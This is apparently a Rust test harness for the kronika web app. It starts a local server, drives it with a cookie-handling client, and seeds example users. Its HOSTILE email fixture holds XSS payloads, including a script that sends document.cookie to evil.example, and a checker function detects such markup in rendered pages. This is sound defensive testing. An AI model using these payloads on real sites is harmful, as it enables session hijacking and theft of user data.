//! The web harness: a kronika web server on 127.0.0.1:0 started in-process
//! with `web::serve_listener` (what `kronika serve` runs), an HTTP client
//! with a cookie jar, and the example data with two users (jana, an admin,
//! password `tajne-heslo-1`; eva, `evino-heslo-2`).

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::time::Duration;

use super::{Env, copy_dir, fixtures};
use kronika::shutdown::Shutdown;

/// A server on a free port, stopped when dropped.
pub struct Server {
    pub addr: SocketAddr,
    pub stop: Shutdown,
    done: std::sync::mpsc::Receiver<()>,
}

impl Server {
    pub fn start(env: &Env) -> Server {
        let config = kronika::config::Config::load(&env.config_path()).expect("config");
        let stop = Shutdown::new();
        let s = stop.clone();
        let (addr_tx, addr_rx) = std::sync::mpsc::channel();
        let (done_tx, done) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            let rt = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
            rt.block_on(async move {
                let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
                addr_tx.send(listener.local_addr().unwrap()).unwrap();
                kronika::web::serve_listener(listener, config, s).await.unwrap();
            });
            rt.shutdown_timeout(Duration::from_secs(1));
            let _ = done_tx.send(());
        });
        let addr = addr_rx.recv_timeout(Duration::from_secs(10)).expect("the server starts");
        Server { addr, stop, done }
    }

    pub fn url(&self, path: &str) -> String {
        format!("http://{}{path}", self.addr)
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        self.stop.trigger();
        let _ = self.done.recv_timeout(Duration::from_secs(10));
    }
}

/// A browser: an agent that does not follow redirects, and a cookie jar.
pub struct Browser {
    pub agent: ureq::Agent,
    pub cookies: BTreeMap<String, String>,
    /// `Set-Cookie` values of the last response.
    pub set_cookies: Vec<String>,
    pub lang: &'static str,
}

pub struct Page {
    pub status: u16,
    pub headers: ureq::http::HeaderMap,
    pub body: String,
}

impl Page {
    pub fn header(&self, name: &str) -> &str {
        self.headers.get(name).and_then(|v| v.to_str().ok()).unwrap_or("")
    }
}

impl Browser {
    pub fn new() -> Browser {
        let agent = ureq::Agent::config_builder()
            .max_redirects(0)
            .http_status_as_error(false)
            .timeout_global(Some(Duration::from_secs(30)))
            .build()
            .into();
        Browser { agent, cookies: BTreeMap::new(), set_cookies: Vec::new(), lang: "en" }
    }

    pub fn cookie_header(&self) -> String {
        self.cookies.iter().map(|(k, v)| format!("{k}={v}")).collect::<Vec<_>>().join("; ")
    }

    pub fn take(&mut self, resp: Result<ureq::http::Response<ureq::Body>, ureq::Error>) -> Page {
        let mut resp = resp.expect("the server answers");
        self.set_cookies.clear();
        for v in resp.headers().get_all("set-cookie") {
            let v = v.to_str().unwrap().to_string();
            let pair = v.split(';').next().unwrap();
            let (k, val) = pair.split_once('=').unwrap();
            if v.contains("Max-Age=0") {
                self.cookies.remove(k);
            } else {
                self.cookies.insert(k.to_string(), val.to_string());
            }
            self.set_cookies.push(v);
        }
        let status = resp.status().as_u16();
        let headers = resp.headers().clone();
        let body = resp.body_mut().read_to_string().unwrap_or_default();
        Page { status, headers, body }
    }

    pub fn get(&mut self, url: &str) -> Page {
        let r = self.agent.get(url).header("Cookie", self.cookie_header()).header("Accept-Language", self.lang).call();
        self.take(r)
    }

    pub fn htmx_get(&mut self, url: &str) -> Page {
        let r = self
            .agent
            .get(url)
            .header("Cookie", self.cookie_header())
            .header("Accept-Language", self.lang)
            .header("HX-Request", "true")
            .call();
        self.take(r)
    }

    pub fn post(&mut self, url: &str, form: &[(&str, &str)]) -> Page {
        let r = self
            .agent
            .post(url)
            .header("Cookie", self.cookie_header())
            .header("Accept-Language", self.lang)
            .send_form(form.iter().copied());
        self.take(r)
    }

    /// The CSRF token of the first form on a page.
    pub fn csrf(page: &Page) -> String {
        let at = page.body.find("name=\"csrf\" value=\"").expect("a CSRF field") + "name=\"csrf\" value=\"".len();
        page.body[at..].split('"').next().unwrap().to_string()
    }

    /// Opens the sign-in page and signs in.
    pub fn sign_in(&mut self, server: &Server, user: &str, password: &str) -> Page {
        let login = self.get(&server.url("/login"));
        assert_eq!(login.status, 200);
        let csrf = Browser::csrf(&login);
        self.post(&server.url("/login"), &[("user", user), ("password", password), ("csrf", &csrf)])
    }
}

/// A message whose every part tries something: a script in the subject,
/// a remote image with an event handler and a script in the body, an
/// event handler in the sender's name.
pub const HOSTILE: &str = "From: \"<img src=x onerror=alert(3)>\" <karel.horak@acme-stavby.cz>\r\n\
To: jana.svobodova@modrykamen.cz\r\n\
Subject: <script>alert(1)</script> Faktura\r\n\
Date: Mon, 2 Nov 2026 10:00:00 +0100\r\n\
Message-ID: <hostile-1@acme-stavby.cz>\r\n\
Content-Type: text/plain; charset=utf-8\r\n\
\r\n\
Dobry den, <img src=http://tracker.example/p.gif onerror=alert(2)> viz priloha.\r\n\
<script>document.location='http://evil.example/?c='+document.cookie</script>\r\n\
<a href=\"javascript:alert(4)\">klik</a>\r\n";

/// The example clients and Maildir (plus the hostile message), synced; a
/// contact; two users.
pub fn example_env() -> Env {
    let calendar = fixtures().join("calendar/example.ics");
    let env = Env::with_config(&format!(
        r#"
data_dir = "data"
own_addresses = ["jana.svobodova@modrykamen.cz", "petr.dvorak@modrykamen.cz"]
own_domains = ["modrykamen.cz"]
blocklist = ["mama.svobodova@gmail.com"]

[[custom_fields]]
name = "obor"
type = "text"

[[maildir]]
name = "mail"
path = "maildir"

[[calendar]]
name = "kalendar"
path = {:?}

[web]
listen = "127.0.0.1:0"
"#,
        calendar.display().to_string()
    ));
    copy_dir(&fixtures().join("maildir"), &env.path().join("maildir"));
    std::fs::write(env.path().join("maildir/new/1794500000.M99P1Q1.hostile"), HOSTILE).unwrap();
    env.ok(&["client", "import", fixtures().join("clients.csv").to_str().unwrap()]);
    env.ok(&[
        "contact",
        "add",
        "acme",
        "Karel Horák",
        "--email",
        "karel.horak@acme-stavby.cz",
        "--role",
        "stavbyvedoucí",
    ]);
    let won = (chrono::Local::now() - chrono::Duration::days(45)).format("%Y-%m-%d").to_string();
    env.ok(&[
        "deal",
        "add",
        "acme",
        "--title",
        "Rekuperace hala B",
        "--value",
        "480000",
        "--status",
        "won",
        "--date",
        &won,
    ]);
    env.ok(&["sync"]);
    env.cmd(&["user", "add", "jana", "--email", "jana@modrykamen.cz", "--admin", "--password-stdin"])
        .write_stdin("tajne-heslo-1\n")
        .assert()
        .success();
    env.cmd(&["user", "add", "eva", "--email", "eva@modrykamen.cz", "--password-stdin"])
        .write_stdin("evino-heslo-2\n")
        .assert()
        .success();
    env
}

/// True when no tag of the page carries an event handler, a remote
/// source or a `javascript:` link, and no image comes from elsewhere
/// (the card's own chart, `/clients/N/chart.svg`, is allowed).
pub fn no_active_markup(html: &str) -> Result<(), String> {
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let tag_end = rest[start..].find('>').map(|e| start + e).unwrap_or(rest.len());
        let tag = rest[start..tag_end].to_ascii_lowercase();
        if tag.contains("onerror") || tag.contains("onload") || tag.contains("javascript:") || tag.contains("http://") {
            return Err(tag);
        }
        let local_image = tag.starts_with("<img src=\"/") && !tag.contains("src=\"//");
        if (tag.starts_with("<img") && !local_image)
            || (tag.starts_with("<script")
                && !tag.contains("src=\"/assets/htmx.min.js\"")
                && !tag.contains("src=\"/assets/print.js\""))
        {
            return Err(tag);
        }
        rest = &rest[tag_end..];
    }
    Ok(())
}

/// Percent-encodes a query value.
pub fn urlencode(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' => (b as char).to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}
